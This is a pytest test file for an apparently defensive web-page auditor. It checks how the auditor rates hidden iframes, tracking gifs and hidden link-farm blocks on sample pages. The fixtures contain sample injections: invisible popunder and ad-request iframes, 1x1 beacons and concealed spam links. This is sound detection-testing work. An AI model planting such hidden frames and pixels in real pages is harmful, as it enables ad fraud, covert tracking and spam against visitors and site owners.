@pytest.mark.parametrize(("frame_host", "expected"), [
    # another CloudFront distribution: a kit's, as any customer's
    ("https://d9kq2wz7xv0pl.cloudfront.net", [M]),
    # a host of no site the network loads from
    ("https://cdn.trafficbridge.example", [M]),
], ids=["another distribution", "another site"])
def test_a_frame_on_a_shared_cdn_an_ad_network_loads_from_is_not_its_helper(
        audit_html: AuditHtml, frame_host: str, expected: list[Severity]) -> None:
    """An ad network the page really runs from a CDN host of its own (AdMaven's CloudFront
    distribution) vouches for no hidden frame of another customer's host on that CDN: a
    kit's popunder frame on its own distribution was the network's helper, low since
    70b291a, as the CDN's registrable domain was read as the network's site."""
    html = wp_page(footer=f'{_ADMAVEN}<iframe src="{frame_host}/pop/land.html" width="1" '
                          'height="1" style="display:none"></iframe>')
    report = audit_html(html, url=URL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


_KIT_HEAD = "".join(f'<link rel="stylesheet" href="{_KIT}/assets/{n}.css">'
                    for n in ("consent", "consent-theme"))


@pytest.mark.parametrize(("picture", "scripts", "expected"), [
    # a kit's two sheets and its loader beside a theme's one sheet: the kit's host serves
    # fewer of the page's scripts than the site (the theme's jQuery and navigation)
    (False, 1, [M]),
    # the same with a picture of its own shown too, beside the theme's none
    (True, 1, [M]),
    # three sheets and three scripts: more than the theme's sheet and two scripts, but the
    # theme's sheet is the page's own site's (no finding before, revH37's residual)
    (False, 3, [M]),
], ids=["sheets and a script", "sheets, a script, a picture", "more sheets and scripts"])
def test_a_kits_sheets_and_script_outnumbering_a_themes_sheet_make_no_design_host(
        audit_html: AuditHtml, picture: bool, scripts: int, expected: list[Severity]) -> None:
    """A kit printing sheets and scripts in the head of a page whose theme links one sheet
    does not serve the page's design: the theme's sheet is the page's own site's, however
    many the kit prints; its hidden frame stays medium (no finding since 70b291a)."""
    footer = f'<iframe src="{_KIT}/sync/frame.html" width="0" height="0" style="display:none">' \
             "</iframe>"
    post = f'<p><img src="{_KIT}/assets/badge.png" alt="Privacy badge" width="88"></p>'
    extra = f'<link rel="stylesheet" href="{_KIT}/assets/more.css">' if scripts > 1 else ""
    head = _KIT_HEAD + extra + "".join(
        f'<script src="{_KIT}/assets/consent{n}.js"></script>' for n in range(scripts))
    report = audit_html(wp_page(head=head, footer=footer, post=post if picture else ""),
                        url=URL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


def test_a_kits_sheet_does_not_make_its_hidden_gif_a_spacer(audit_html: AuditHtml) -> None:
    """A kit printing one sheet of its host in the head beside the theme's does not make a
    hidden static gif of that host the site's spacer: its host serves none of the site's
    design (the theme's sheet is the site's), so the gif stays a beacon, low (none since
    ccc392c, which read any host of a head sheet as the site's static host)."""
    html = wp_page(head=f'<link rel="stylesheet" href="{_KIT}/assets/consent.css">',
                   footer=f'<img src="{_KIT}/assets/p.gif" width="1" height="1" '
                          'style="display:none" alt="">')
    found = [f for f in audit_html(html, url=URL).findings if f.kind == "tracking-pixel"]
    assert len(found) == 1, [(f.kind, f.message) for f in audit_html(html, url=URL).findings]


def test_a_hidden_frame_asking_for_an_ad_on_an_ad_networks_site_is_no_helper(
        audit_html: AuditHtml) -> None:
    """A hidden frame on the domain of an ad network the page runs (YADS's yimg.jp) that
    asks for an ad (a zone, a size) is no helper of the stack, as a catalogued host's such
    frame is none: an ad no visitor sees earns for whoever hid it (low since 70b291a)."""
    frame = _YADS_FRAME.replace("t=f&amp;", "t=f&amp;zoneid=88123&amp;")
    html = _portal('<link rel="stylesheet" href="https://news.harbourportal.example/c.css">',
                   f'<div class="ad">{_YADS_TAG}{frame}</div>')
    report = audit_html(html, url=_PORTAL)
    assert _frames(report.findings) == [M], [(f.kind, f.message) for f in report.findings]


def test_a_bucket_hosts_storage_label_names_no_storage_frame(audit_html: AuditHtml) -> None:
    """A kit's hidden frame in a Google Cloud Storage bucket (storage.googleapis.com, a host
    of anyone's files) has no job by its address on a page styled by Google Fonts (the same
    googleapis.com): the host's `storage` names the platform, not a group's storage frame
    (was low: 'a sign-in, session or storage frame', backed by the fonts' site)."""
    page = ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>Ferry times</title>"
            "<link rel='stylesheet' href='https://fonts.googleapis.com/css?family=Lora'>"
            "</head><body><article><h1>Ferry</h1><p>The council debated the winter "
            "timetable.</p></article><iframe src='https://storage.googleapis.com/pushbridge"
            "-cdn/p.html' width='0' height='0' style='display:none'></iframe></body></html>")
    report = audit_html(page, url="https://www.harbourgazette.example/ferry")
    assert _frames(report.findings) == [M], [(f.kind, f.message) for f in report.findings]


@pytest.mark.parametrize(("path", "expected"), [
    # the frame Weborama's wreport.js tag drops (create_ifrtrk), its ID sync
    ("/iframe/external_all.html", [L]),
    # a publisher's own page of the same folder, naming its account
    ("/iframe/customers/lemag.html?idEditeur=2207&idSite=31", [L]),
    # any other page of its static host says no job
    ("/advertiser/426/43/238/319/standard_300x250.html", [M]),
], ids=["its tag's sync frame", "a customer's sync page", "no sync address"])
def test_weboramas_iframe_folder_is_its_id_sync_frame(
        audit_listed: AuditListed, path: str, expected: list[Severity]) -> None:
    """Weborama's hidden `cstatic.weborama.fr/iframe/…html` frame is its ID sync (was
    medium: an advertising vendor's frame the page's tags do not run, saying no job)."""
    frame = ('<iframe style="height:1px;width:1px;border:0px none;position:absolute;'
             f'display:none;left:0px;top:0px;" src="//cstatic.weborama.fr{path}"></iframe>')
    report = audit_listed(wp_page(footer=frame), URL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


def _read_more_page(n: int) -> str:
    """`n` teasers of a listing, each a row of items with a "read more" whose handler walks
    to its siblings, a hidden block of farm links among them, and jQuery handlers bound to
    the controls' class: every path read from every control."""
    row = ("<div class='row'>" + f"<span class='item'>{'Ein Absatz. ' * 10}</span>" * 5
           + "<button onclick=\""
           "$(this).siblings('.more').toggle();$(this).parent().find('.more').show()\">mehr"
           f"</button><div class='more' style='display:none'>{_FARM}</div></div>")
    bound = "".join(f"$('.c{i}').click(function(){{ $(this).nextAll('.more').show(); }});"
                    for i in range(40))
    return _PAGE.format(block=row * n + f"<script>{bound}$('button').click(function(){{ "
                        "$(this).siblings().show(); }});</script>", after="")


def test_read_more_paths_are_read_in_linear_time() -> None:
    """Each control's path is read step by step, each step bounded (`_STEP_REACH`), and the
    page's bound handlers once: a listing of 5 MB of rows is no quadratic."""
    from tests.hostile.scaling import assert_linear, audit_seconds

    assert_linear(lambda n: audit_seconds(_read_more_page(n)), 1_500, "read-more paths",
                  max_seconds=20.0)
